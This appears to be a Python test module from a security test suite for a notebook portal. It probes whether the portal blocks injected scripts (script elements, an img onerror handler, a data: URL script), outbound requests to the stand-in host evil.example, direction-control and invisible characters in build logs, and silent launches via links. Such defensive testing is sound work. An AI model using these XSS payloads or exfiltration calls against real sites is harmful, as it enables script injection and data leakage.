"""Texts that strangers put into pages of the portal, scripts that could get in that way, and
links.
"""

from __future__ import annotations

from playwright.sync_api import Route

from tests.attacks.browser.visit import EVIL, KIND, Act, InBrowser, Visit

COUNT = "select count(*) from notebook_sessions_project"
SCRIPTS = {
    "a script that came in by a text runs":
        "() => { const s = document.createElement('script'); s.textContent = 'window.attacked = 1';"
        " document.body.append(s); }",
    "a picture's handler that came in by a text runs":
        "() => { const d = document.createElement('div'); document.body.append(d);"
        " d.innerHTML = '<img src=x onerror=\"window.attacked = 1\">'; }",
    "a script that is data runs":
        "() => { const s = document.createElement('script');"
        " s.src = 'data:text/javascript,window.attacked=1'; document.body.append(s); }",
}  # fmt: skip
TELLING = {
    "fetches from": "fetch('http://evil.example/x').catch(() => 0)",
    "shows a picture of":
        "() => { document.body.append(Object.assign(new Image(), {src: 'http://evil.example/x'})); }",
    "sends a form to":
        "() => { const f = document.createElement('form'); f.method = 'post';"
        " f.action = 'http://evil.example/x'; document.body.append(f); f.submit(); }",
    "frames":
        "() => { document.body.append(Object.assign(document.createElement('iframe'),"
        " {src: 'http://evil.example/x'})); }",
    "loads a script of":
        "() => { document.body.append(Object.assign(document.createElement('script'),"
        " {src: 'http://evil.example/x'})); }",
}  # fmt: skip
LOGS = {
    "a log runs a script": "() => window.attacked || ''",
    "a log makes a heading of its own":
        "() => document.querySelector('h1#attack') ? 'a heading' : ''",
    "a log turns its lines round":
        "() => /[\\u202a-\\u202e\\u2066-\\u2069\\u200e\\u200f]/.test(document.body.innerText)"
        " ? 'controls of direction' : ''",
    "a log hides letters":
        "() => /[\\u200b\\u2060\\ufeff\\u0008\\u007f\\u001b]/.test(document.body.innerText)"
        " ? 'invisible letters' : ''",
}  # fmt: skip


def _runs(script: str) -> Act:
    """Return what a text that became HTML could do on a page of the portal."""

    def act(visit: Visit) -> str:
        page = visit.portal("/")
        page.evaluate(script)
        page.wait_for_timeout(300)
        return str(page.evaluate("() => window.attacked || ''"))

    return act


def _tells(script: str) -> Act:
    """Return what a page of the portal sends to another site."""

    def act(visit: Visit) -> str:
        told: list[str] = []

        def take(route: Route) -> None:
            told.append(route.request.url)
            route.fulfill(body="x")

        visit.context.route(f"{EVIL}/**", take)
        page = visit.portal("/")
        page.evaluate(script)
        page.wait_for_timeout(300)
        return ", ".join(told)

    return act


def _log(check: str) -> Act:
    """Return what a build's log does to the page that shows it."""

    def act(visit: Visit) -> str:
        page = visit.portal("/projects/{private_project}/")
        page.get_by_role("heading", name="Build log").click()
        page.get_by_text(visit.world.words["output_of_build"]).first.wait_for()
        return str(page.evaluate(check) or "")

    return act


def _unwarned(path: str) -> Act:
    """Return whether a user is not told what a stranger's repository can get at."""

    def act(visit: Visit) -> str:
        text = visit.portal(path).inner_text("main").lower()
        told = "ssh key" in text and "your" in text and "folder" in text
        return "" if told else "it does not say what a repository gets at"

    return act


def _launches(visit: Visit) -> str:
    before = visit.world.row(COUNT)
    for path in ("/?repository={plain}", "/launch/?repository={plain}", "/v2/gh/x/y/HEAD"):
        visit.portal(path)
    after = visit.world.row(COUNT)
    return f"{before} → {after}" if before != after else ""


ATTEMPTS = (
    *(InBrowser(KIND, name, _runs(script)) for name, script in SCRIPTS.items()),
    *(
        InBrowser(
            KIND,
            f"a page of the portal {what} another site",
            _tells(script),
            long=what not in {"fetches from", "sends a form to"},
        )
        for what, script in TELLING.items()
    ),
    *(InBrowser(KIND, name, _log(check)) for name, check in LOGS.items()),
    InBrowser(KIND, "a link launches", _launches),
    InBrowser(KIND, "somebody launches without knowing what a repository gets at", _unwarned("/")),
    InBrowser(
        KIND,
        "somebody looks at a project without knowing what its repository gets at",
        _unwarned("/projects/{alice_project}/"),
    ),
)
